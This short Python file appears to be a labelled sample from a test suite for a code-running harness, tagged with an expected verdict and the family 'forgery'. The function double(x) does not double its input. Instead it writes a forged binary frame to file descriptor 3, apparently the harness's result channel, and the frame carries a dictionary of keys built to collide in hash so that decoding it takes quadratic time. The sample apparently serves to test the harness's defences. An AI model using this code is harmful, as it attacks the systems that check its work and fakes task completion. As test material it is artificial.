# verdict: runtime_error
# family: forgery
# A forged frame whose dictionary's keys all have one hash: quadratic for whoever decodes it.
import os
import struct


def double(x):
    count, prime = 60000, 2**61 - 1
    keys = [b"\x04" + struct.pack("<I", 10) + (k * prime).to_bytes(10, "little") + b"\0" for k in range(1, count + 1)]
    forged = b"\x0b" + struct.pack("<I", count) + b"".join(keys)
    payload = b"\x0a" + struct.pack("<I", 4) + b"\x03" + struct.pack("<q", 0)
    payload += b"\x0a" + struct.pack("<I", 1) + forged + b"\0" + b"\x0a" + struct.pack("<I", 0)
    data = memoryview(struct.pack("<BBHI", 1, 35, 0, len(payload)) + payload)
    while data:
        data = data[os.write(3, data) :]
    return x
